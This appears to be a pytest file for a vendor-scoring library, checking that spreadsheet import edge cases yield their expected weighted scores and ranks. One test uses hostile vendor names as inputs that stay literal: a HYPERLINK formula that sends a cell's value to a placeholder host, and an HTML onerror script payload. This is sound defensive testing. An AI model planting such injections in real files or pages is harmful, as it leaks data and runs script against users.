"""Every import case of ``../shared/cases`` gives the result its expected.md states.

Scores quoted here are the WSM column of each case's expected.md (min–max
normalisation, given to 4 decimals, so compared at ±0.0005 as the cases' README
says); ranks are compared exactly.
"""

from __future__ import annotations

import datetime as dt

import numpy as np
import pytest

from scoring.evaluate import evaluate
from scoring.io import ImportOptions, import_path
from scoring.methods import rank_with
from scoring.models import Policies, RatingKind

BASELINE_MATRIX = np.array([[120, 4, 3.5, 5], [95, 3, 4, 4], [150, 5, 4.5, 3]])
BASELINE_WSM = {
    "Vendor A": (0.5159, 2),
    "Vendor B": (0.5500, 1),
    "Vendor C": (0.4500, 3),
}
BASELINE_WEIGHTS = [0.35, 0.25, 0.20, 0.20]


def _scores(result):
    scores = evaluate(result.evaluation).scores
    return {v: (float(r["total"]), int(r["rank"])) for v, r in scores.iterrows()}


def _assert_wsm(result, expected: dict[str, tuple[float, int]]) -> None:
    got = _scores(result)
    assert list(got) == list(expected)
    for vendor, (total, rank) in expected.items():
        assert got[vendor][0] == pytest.approx(total, abs=0.0005), vendor
        assert got[vendor][1] == rank, vendor


def _assert_baseline(result, vendors=("Vendor A", "Vendor B", "Vendor C")) -> None:
    assert result.ok, [str(p) for p in result.errors]
    evaluation = result.evaluation
    assert [v.name for v in evaluation.vendors] == list(vendors)
    np.testing.assert_array_equal(evaluation.ratings.values, BASELINE_MATRIX)
    assert [c.direction.value for c in evaluation.criteria] == [
        "cost",
        "benefit",
        "benefit",
        "benefit",
    ]
    weights = evaluation.weights.vector(evaluation.criterion_ids)
    np.testing.assert_allclose(weights, BASELINE_WEIGHTS, rtol=1e-12)
    renamed = dict(zip(vendors, BASELINE_WSM.values(), strict=True))
    _assert_wsm(result, renamed)


def _codes(result, severity=None) -> set[str]:
    return {p.code for p in result.problems if severity in (None, p.severity)}


# 00 ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files",
    [["scores.csv", "weights.csv"], ["evaluation.xlsx"]],
    ids=["csv pair", "xlsx"],
)
def test_case_00_baseline_imports_without_warnings(case_dir, files):
    result = import_path([case_dir / "00-baseline-reference" / f for f in files])
    _assert_baseline(result)
    assert not result.warnings


# 01 ------------------------------------------------------------------------------


def test_case_01_na_tokens_are_not_offered_but_region_na_stays_text(case_dir):
    folder = case_dir / "01-na-tokens-vs-literal-na"
    result = import_path([folder / "scores.csv", folder / "weights.csv"])
    assert result.ok
    assert list(result.metadata["Region"]) == ["NA", "EMEA", "APAC", "NA"]
    evaluation = result.evaluation
    mobile = evaluation.criterion_ids.index("Mobile app")
    kinds = evaluation.ratings.kinds[:, mobile]
    assert list(kinds) == [RatingKind.NOT_OFFERED] * 3 + [RatingKind.VALUE]
    not_offered = next(p for p in result.problems if p.code == "not_offered")
    assert not_offered.cells == ("G2", "G3", "G4")
    missing = next(p for p in result.problems if p.code == "missing")
    assert missing.cells == ("D5",) and missing.severity == "warning"
    integration = evaluation.criterion_ids.index("Integration")
    assert evaluation.ratings.kinds[3, integration] == RatingKind.UNKNOWN
    scores = evaluate(evaluation).scores
    assert scores["total"].notna().all()
    assert scores.loc["Vendor D", "status"] == "ranked"


#: Case 01's expected.md: WSM (min–max) and TOPSIS (vector) with N/A and blank as 0.
CASE_01_WSM = {
    "Vendor A": (0.5136, 3),
    "Vendor B": (0.6000, 1),
    "Vendor C": (0.4000, 4),
    "Vendor D": (0.5182, 2),
}
CASE_01_TOPSIS = {
    "Vendor A": (0.4879, 2),
    "Vendor B": (0.4336, 4),
    "Vendor C": (0.5127, 1),
    "Vendor D": (0.4711, 3),
}


def test_case_01_reference_policies_reproduce_the_quoted_scores(case_dir):
    folder = case_dir / "01-na-tokens-vs-literal-na"
    result = import_path([folder / "scores.csv", folder / "weights.csv"])
    policies = Policies(normalization="minmax", not_offered_rating=0, unknown="zero")
    evaluation = result.evaluation.with_policies(policies)
    scores = evaluate(evaluation).scores
    assert list(scores.index) == list(CASE_01_WSM)
    for vendor, (total, rank) in CASE_01_WSM.items():
        assert scores.loc[vendor, "total"] == pytest.approx(total, abs=0.0005), vendor
        assert scores.loc[vendor, "rank"] == rank, vendor
    assert scores.loc["Vendor D", "flagged"]
    assert scores.loc["Vendor D", "unknown"] == ["Integration"]
    assert scores.loc["Vendor D", "coverage"] == pytest.approx(0.75)

    topsis = rank_with(evaluation, "topsis", "vector")
    for vendor, (closeness, rank) in CASE_01_TOPSIS.items():
        assert topsis.scores[vendor] == pytest.approx(closeness, abs=0.0005), vendor
        assert topsis.ranks[vendor] == rank, vendor


# 02 ------------------------------------------------------------------------------


def test_case_02_bom_nbsp_zero_width_headers_match_the_weights(case_dir):
    folder = case_dir / "02-header-bom-nbsp-duplicates"
    result = import_path([folder / "scores_bom_nbsp.csv", folder / "weights.csv"])
    _assert_baseline(result)
    assert result.preview.columns[1] == "vendor"
    assert result.columns[0].header == "Vendor"
    assert [c.header for c in result.columns[1:]] == [
        "Price",
        "Integration",
        "Support",
        "Security",
    ]


def test_case_02_duplicate_headers_are_rejected_naming_both_columns(case_dir):
    folder = case_dir / "02-header-bom-nbsp-duplicates"
    result = import_path(
        [folder / "scores_duplicate_headers.csv", folder / "weights.csv"]
    )
    assert result.evaluation is None
    [error] = result.errors
    assert error.code == "duplicate_header"
    assert error.field == "Support"
    assert error.cells == ("D1", "F1")
    assert "D and F" in error.message


# 04 ------------------------------------------------------------------------------


def test_case_04_full_width_digits_are_numbers_and_names_stay_as_typed(case_dir):
    result = import_path(case_dir / "04-fullwidth-digits-xlsx" / "scores_ja.xlsx")
    _assert_baseline(result, vendors=("ベンダーA", "ベンダーB", "ベンダーC"))
    assert result.evaluation.criterion_ids[0] == "価格（千ユーロ/年）"


# 06 ------------------------------------------------------------------------------


def test_case_06_percent_strings_and_percent_format_read_as_fractions(case_dir):
    folder = case_dir / "06-percent-weights-bad-sums"
    result = import_path([folder / "scores.csv", folder / "weights_percent.xlsx"])
    _assert_baseline(result)
    assert list(result.evaluation.weights.values.values()) == BASELINE_WEIGHTS


def test_case_06_weights_summing_to_110_block_until_normalised(case_dir):
    folder = case_dir / "06-percent-weights-bad-sums"
    files = [folder / "scores.csv", folder / "weights_sum_110.csv"]
    blocked = import_path(files)
    assert blocked.evaluation is None
    [error] = blocked.errors
    assert error.code == "weights_sum" and error.found == "110 %"

    result = import_path(files, ImportOptions(normalise_weights=True))
    weights = result.evaluation.weights.vector(result.evaluation.criterion_ids)
    np.testing.assert_allclose(weights, [0.3182, 0.3182, 0.1818, 0.1818], atol=5e-5)
    assert "weights_normalised" in _codes(result, "warning")
    _assert_wsm(
        result,
        {"Vendor A": (0.5145, 1), "Vendor B": (0.5000, 2), "Vendor C": (0.5000, 2)},
    )


def test_case_06_all_zero_weights_are_rejected_naming_the_file(case_dir):
    folder = case_dir / "06-percent-weights-bad-sums"
    result = import_path([folder / "scores.csv", folder / "weights_all_zero.csv"])
    [error] = result.errors
    assert "all weights are zero" in error.message
    assert error.file == "weights_all_zero.csv"


def test_case_06_negative_weight_is_rejected_naming_criterion_and_value(case_dir):
    folder = case_dir / "06-percent-weights-bad-sums"
    result = import_path([folder / "scores.csv", folder / "weights_negative.csv"])
    [error] = result.errors
    assert error.field == "Price" and error.cell == "B2"
    assert "-10 %" in error.message and error.found == "-10%"


# 07 ------------------------------------------------------------------------------


def test_case_07_title_rows_merged_two_row_header_and_footnote(case_dir):
    result = import_path(case_dir / "07-title-rows-merged-header" / "evaluation.xlsx")
    _assert_baseline(result)
    groups = {c.header: c.group for c in result.columns}
    assert groups == {
        "Vendor": "",
        "Price (k€/yr)": "Commercial",
        "Integration": "Technical",
        "Support": "Technical",
        "Security": "Technical",
    }
    scores_sheet = next(s for s in result.layout.sheets if s.sheet == "Scores")
    assert scores_sheet.header_rows == (3, 4)
    assert (scores_sheet.first_data_row, scores_sheet.last_data_row) == (5, 7)
    footnote = next(p for p in result.problems if p.code == "footnote")
    assert footnote.line == 9 and footnote.severity == "notice"
    assert not result.warnings


# 10 ------------------------------------------------------------------------------


def test_case_10_numbers_as_text_and_date_serials(case_dir):
    result = import_path(
        case_dir / "10-numbers-as-text-date-serials" / "evaluation.xlsx"
    )
    _assert_baseline(result)
    assert list(result.metadata["Proposal received"]) == [
        dt.date(2024, 1, 15),
        dt.date(2024, 1, 1),
        dt.date(2024, 3, 1),
    ]
    [serial] = [p for p in result.warnings if p.code == "date_serial"]
    assert serial.cells == ("F3",) and "1900" in serial.message
    assert "number_text" in _codes(result, "notice")


# 12 ------------------------------------------------------------------------------


def test_case_12_zero_range_and_negative_columns(case_dir):
    folder = case_dir / "12-constant-zero-negative-criteria"
    result = import_path([folder / "scores.csv", folder / "weights.csv"])
    assert result.ok
    flat = {p.field for p in result.warnings if p.code == "not_discriminating"}
    assert flat == {"EU data residency", "On-prem option"}
    budget = result.evaluation.criterion_ids.index("Budget delta (k€)")
    assert list(result.evaluation.ratings.values[:, budget]) == [-15, 10, 25, -15]
    _assert_wsm(
        result,
        {
            "Vendor A": (0.4864, 2),
            "Vendor B": (0.4375, 3),
            "Vendor C": (0.3500, 4),
            "Vendor D": (0.5545, 1),
        },
    )
    assert np.isfinite(evaluate(result.evaluation).normalized.to_numpy()).all()


# 13 ------------------------------------------------------------------------------


def test_case_13_pairwise_matrix_is_not_taken_for_ratings(case_dir):
    path = case_dir / "13-ahp-pairwise-problems" / "ahp_inconsistent.csv"
    result = import_path(path)
    assert result.evaluation is None
    assert "pairwise" in _codes(result, "notice")
    assert [p.code for p in result.errors] == ["no_ratings"]


# 15 ------------------------------------------------------------------------------


def test_case_15_hostile_names_are_kept_literally_and_scored(case_dir):
    folder = case_dir / "15-injection-in-vendor-names"
    result = import_path([folder / "scores_hostile_names.csv", folder / "weights.csv"])
    names = [
        '=HYPERLINK("http://example.invalid/?q="&B2,"Vendor A")',
        "+1 Solutions",
        "@Cloud Ltd",
        "<img src=x onerror=alert(1)>Vendor D",
        "<b>Vendor E</b>",
        "Vendor F<br>Holdings",
    ]
    wsm = [(0.6076, 3), (0.6333, 1), (0.4000, 6), (0.6212, 2), (0.4106, 5)]
    wsm.append((0.5182, 4))
    _assert_wsm(result, dict(zip(names, wsm, strict=True)))
    assert list(result.metadata["Notes"]) == [
        "-see appendix",
        "=1+1",
        "plain text",
        "@mention the PM",
        None,
        "+44 20 7946 0000",
    ]
    assert list(result.metadata["Budget delta (k€)"]) == [-15, 10, 25, 0, -5, 30]
